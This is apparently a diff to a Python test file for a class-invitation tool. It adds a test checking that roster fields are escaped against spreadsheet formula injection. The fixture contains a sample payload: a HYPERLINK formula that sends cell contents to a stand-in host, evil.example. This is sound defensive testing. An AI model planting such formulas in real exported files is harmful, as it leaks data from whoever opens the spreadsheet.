@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import random
 import subprocess
@@ -154,3 +155,20 @@ def test_invitations_are_for_the_class_list_and_made_once(frozen, tmp_path):
     ]
     assert "Everybody is invited already" in invite().stdout
     assert "not on the class list" in invite("eve").stderr
+
+
+def test_an_invitation_is_no_formula_in_a_spreadsheet(frozen, tmp_path):
+    roster, listed = tmp_path / "roster.csv", tmp_path / "out" / "invitations.csv"
+    roster.write_text(
+        'student,name,email\n-eve,"=HYPERLINK(""http://evil.example/?""&E2,""Eve"")",+1@evil.example\n'
+    )
+    done = command(
+        "invite", "--out", tmp_path / "out", "--team", "@prof", root=frozen, COURSE_ROSTER=str(roster)
+    )
+    assert done.returncode == 0, done.stderr
+    with listed.open(newline="") as file:
+        rows = list(csv.reader(file))
+    assert [row[:3] for row in rows[1:]] == [
+        ["'-eve", '\'=HYPERLINK("http://evil.example/?"&E2,"Eve")', "'+1@evil.example"],
+        ["'@prof", "", ""],
+    ]
